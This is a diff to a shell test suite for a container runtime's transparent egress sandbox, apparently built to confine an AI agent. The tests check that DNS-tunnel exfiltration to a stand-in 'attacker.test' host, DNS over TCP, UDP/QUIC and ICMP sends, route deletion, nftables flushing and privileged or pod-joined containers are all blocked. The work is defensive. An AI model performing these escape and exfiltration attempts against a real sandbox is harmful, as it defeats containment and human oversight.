@@ -5,14 +5,17 @@
 # to its transparent listener and every DNS question to its stub
 # (docs/egress.md, The transparent path).  Against the test's own
 # "internet" (helpers/egress.bash), whose DNS server answers names that no
-# hosts file has: an allowlisted name is reached, nothing else; a server
-# that speaks first on name:22; no question for a name off the list ever
-# reaches a DNS server; SNI or Host naming another name than the stub's
-# answer, and names answered with loopback or private addresses, are
-# refused; UDP and ICMP fail at once; the agent cannot change any of it;
-# egress.transparent=false keeps the proxy-only shape.  Each is shown under
-# the control runtime (runc) as well, where the same bundle sits in the
-# outside namespace and every one of these attempts works.
+# hosts file has: an allowlisted name is reached, nothing else; a
+# connection to the transparent listener itself is refused; a server that
+# speaks first on name:22; no question for a name off the list, over UDP
+# or TCP, ever reaches a DNS server; SNI or Host naming another name than
+# the stub's answer, and names answered with loopback or private
+# addresses, are refused; UDP (QUIC's 443 too) and ICMP fail at once; the
+# agent cannot change any of it, whatever capabilities the bundle or exec
+# asks for; a pod's next container, joining the namespace, meets the same
+# rules; egress.transparent=false keeps the proxy-only shape.  Each attack
+# is shown under the control runtime (runc) as well, where the same bundle
+# sits in the outside namespace and the attempt works.
 
 load helpers
 load helpers/hardening
@@ -94,6 +97,20 @@ dns_questions ()
   has_line "nameless: hello from other"
 }
 
+@test "transparent: a connection to the transparent listener itself has no original destination, and is refused" {
+  # the rules leave loopback alone, so the agent can connect to
+  # 127.0.0.1:15001 itself; its conntrack entry names the listener
+  run_ct sh -c "$NOPROXY
+    for a in 127.0.0.1 ::1; do
+      (printf 'GET / HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n'; sleep 1) \
+        | busybox nc -w 2 \$a 15001 2>&1 | grep -c hello | sed \"s/^/\$a /\"
+    done"
+  has_line "127.0.0.1 0"
+  has_line "::1 0"
+  [[ $(egress_events | jq -s 'map(select(.reason == "no-original-destination"
+      and .decision == "deny" and .bytes_up == 0)) | length') -eq 2 ]] || fail "$(egress_events)"
+}
+
 @test "transparent: TCP to name:22 reaches a server that speaks first; the name must be allowed on that port" {
   local script="$NOPROXY
     busybox nslookup dns.test >/dev/null 2>&1
@@ -144,6 +161,46 @@ dns_questions ()
   control_run sh -c "$script"
   grep -q "leak-$CANARY-a.attacker.test" "$EGRESS_DNS_LOG" \
     || fail "under $CONTROL_RUNTIME the question should arrive: $(cat "$EGRESS_DNS_LOG")"
+}
+
+# dns_tcp_question NAME FILE: a DNS question (type A) for NAME as DNS over
+# TCP sends it (the length first), written to FILE.
+dns_tcp_question ()
+{
+  "$(_egress_python)" -c '
+import struct, sys
+q = struct.pack(">HHHHHH", 0x5a5a, 0x0100, 1, 0, 0, 0)
+q += b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[1].split(".")) + b"\0"
+q += struct.pack(">HH", 1, 1)
+open(sys.argv[2], "wb").write(struct.pack(">H", len(q)) + q)' "$1" "$2"
+}
+
+@test "transparent: DNS over TCP, to any server, meets the stub as well" {
+  new_canary
+  CANARY=${CANARY,,}
+  dns_tcp_question dns.test "$ROOTFS/q-allowed"
+  dns_tcp_question "leak-$CANARY.attacker.test" "$ROOTFS/q-leak"
+  # the test's DNS server answers UDP only: an answer over TCP is the stub's
+  # (rcode, the 4th byte's low bits, and the answers' count, after the
+  # length)
+  local script='for q in allowed leak; do
+      for s in 1.2.3.53 3ffe:213::53; do
+        printf "%s %s " $q $s
+        busybox nc -w 2 $s 53 </q-$q | busybox od -An -tu1 -j5 -N5 | busybox awk "{ print \$1 % 16, \$5 }"
+      done
+    done'
+  run_ct sh -c "$script"
+  has_line "allowed 1.2.3.53 0 1"
+  has_line "allowed 3ffe:213::53 0 1"
+  [[ $output != *"leak "*" 0 1"* ]] || fail "$output"
+  ! grep -q "$CANARY" "$EGRESS_DNS_LOG" || fail "a question left: $(grep "$CANARY" "$EGRESS_DNS_LOG")"
+  [[ $(audit_events dns | jq -s --arg c "$CANARY" 'map(select((.name // "") | contains($c))
+      | select(.decision == "deny")) | length') -eq 2 ]] || fail "$(audit_events dns)"
+
+  # the control: nothing answers DNS over TCP outside
+  requires_control
+  control_run sh -c "$script"
+  [[ $output != *" 0 1"* ]] || fail "$output"
 }
 
 @test "transparent: SNI or Host naming another name than the stub's answer is refused" {
@@ -199,20 +256,23 @@ dns_questions ()
   # ICMP echo sockets for every group, so that the attacker can ping
   # without CAP_NET_RAW
   update_config '.linux.sysctl["net.ipv4.ping_group_range"] = "0 2147483647"'
+  # 443 as QUIC (HTTP/3) sends it: clients fall back to TCP
   local datagrams script='
     attack udp 1.2.3.10 9999
     attack udp 3ffe:213::10 9999
+    attack udp 1.2.3.10 443
+    attack udp 3ffe:213::10 443
     attack icmp 1.2.3.10'
   datagrams=$(wc -l <"$EGRESS_UDP_LOG")
   SECONDS=0
   run_ct sh -c "$script"
   ((SECONDS < 3)) || fail "took ${SECONDS} s: $output"
-  [[ $(grep -c '^ATTACK-BLOCKED sendto: Operation not permitted' <<<"$output") -eq 3 ]] || fail "$output"
+  [[ $(grep -c '^ATTACK-BLOCKED sendto: Operation not permitted' <<<"$output") -eq 5 ]] || fail "$output"
   [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]] || fail "a datagram arrived: $(cat "$EGRESS_UDP_LOG")"
 
   requires_control
   control_run sh -c "$script"
-  [[ $(grep -c '^ATTACK-OK' <<<"$output") -eq 3 ]] || fail "$output"
+  [[ $(grep -c '^ATTACK-OK' <<<"$output") -eq 5 ]] || fail "$output"
 }
 
 @test "transparent: the agent cannot change its routes or rules; a created container's monitor set them" {
@@ -225,6 +285,9 @@ dns_questions ()
   [[ $(grep -c 'Operation not permitted' <<<"$output") -eq 3 && $output != *=0* ]] || fail "$output"
   has_line "route default dev lo scope link  src 127.0.0.1 "
   [[ $(grep -c '^route ' <<<"$output") -eq 1 ]] || fail "$output"
+  # nor a process exec'd with the capability asked for
+  rt exec --cap CAP_NET_ADMIN "$CT_ID" sh -c 'ip route del default 2>&1; echo del=$?'
+  [[ $output == *"Operation not permitted"* && $output != *del=0* ]] || fail "$output"
   rt exec "$CT_ID" sh -c "$NOPROXY; busybox wget -q -O - http://dns.test/"
   has_line "hello from web"
   audit_events create | jq -e '.directives.network | .transparent and .rules == "monitor"' >/dev/null \
@@ -241,6 +304,70 @@ dns_questions ()
   for o in --transparent-fd --transparent6-fd --dns-udp-fd --dns-tcp-fd --dns-udp6-fd --dns-tcp6-fd; do
     [[ $cmd == *" $o "* ]] || fail "no $o: $cmd"
   done
+}
+
+@test "transparent: a privileged bundle (every capability, CAP_NET_ADMIN too) cannot change its routes or rules either" {
+  # what `docker run --privileged` asks for: the capabilities the rules
+  # rely on the agent not having are removed by the hardening
+  careless_bundle
+  privileged_bundle
+  local nft='' script
+  [[ -x /usr/sbin/nft ]] && nft=/host/usr/sbin/nft
+  script="$NOPROXY
+    grep CapEff /proc/self/status
+    ip route del default 2>&1; echo del=\$?
+    ip link set lo down 2>&1; echo down=\$?
+    ip route add 1.2.3.0/24 dev lo 2>&1; echo add=\$?
+    if [ -n '$nft' ]; then $nft flush ruleset 2>&1; echo nft=\$?; fi
+    busybox wget -q -O - http://dns.test/ 2>&1
+    $CURL -sS -m 5 http://1.2.3.11/ 2>&1; echo"
+  run_ct sh -c "$script"
+  check_status 0
+  [[ $output != *=0* && $(grep -c 'Operation not permitted' <<<"$output") -ge 3 ]] || fail "$output"
+  has_line "hello from web"
+  [[ $output != *"hello from other"* ]] || fail "$output"
+  local eff
+  eff=$(awk '/CapEff/ { print $2 }' <<<"$output")
+  (((0x$eff >> 12) & 1)) && fail "CAP_NET_ADMIN kept: $output"
+
+  # the control: a new namespace under runc, the same capabilities
+  # change its routes (not the test's shared outside namespace)
+  requires_control
+  update_config '(.linux.namespaces[] | select(.type == "network")) |= del(.path)'
+  control_run sh -c 'ip route add 1.2.3.0/24 dev lo 2>&1; echo add=$?'
+  has_line add=0
+}
+
+@test "transparent: a container joining another's agent namespace (a pod's) meets its rules; one asking for none or another allowlist is refused" {
+  requires_curl
+  start_ct
+  # the pod's next container, every capability asked: the first one's
+  # namespace, rules and sidecar, as they are
+  careless_bundle
+  update_config '.linux.namespaces |= map(if .type == "network" then .path = $p else . end)' \
+    --arg p "/proc/$(ct_pid "$CT_ID")/ns/net"
+  set_cmd sh -c "$NOPROXY
+    busybox wget -q -O - http://dns.test/ 2>&1
+    $CURL -sS -m 5 http://1.2.3.11/ 2>&1; echo
+    ip route del default 2>&1; echo del=\$?
+    attack udp 1.2.3.10 443"
+  rt run --bundle "$BUNDLE" "$CT_ID-b"
+  has_line "hello from web"
+  [[ $output != *"hello from other"* && $output != *del=0* ]] || fail "$output"
+  has_line "ATTACK-BLOCKED sendto: Operation not permitted"
+  audit_events create | jq -se 'any(.[]; .directives.network.sharedAgentNamespace
+      and .directives.network.agent == "shared")' >/dev/null || fail "$(audit_events create)"
+
+  # a member asking for no egress at all, or for another allowlist, would
+  # get the first one's proxy: refused
+  add_annotation run.agentrt.egress.allow web.test
+  rt run --bundle "$BUNDLE" "$CT_ID-c"
+  [[ $status -ne 0 && $output == *"differs from"* ]] || fail "status $status: $output"
+  add_annotation run.agentrt.egress none
+  set_cmd sh -c "$NOPROXY; busybox wget -q -O - http://dns.test/ 2>&1"
+  rt run --bundle "$BUNDLE" "$CT_ID-d"
+  [[ $status -ne 0 && $output == *"asks for none"* && $output != *"hello from web"* ]] \
+    || fail "status $status: $output"
 }
 
 @test "transparent: egress.transparent false keeps the proxy-only shape, recorded" {
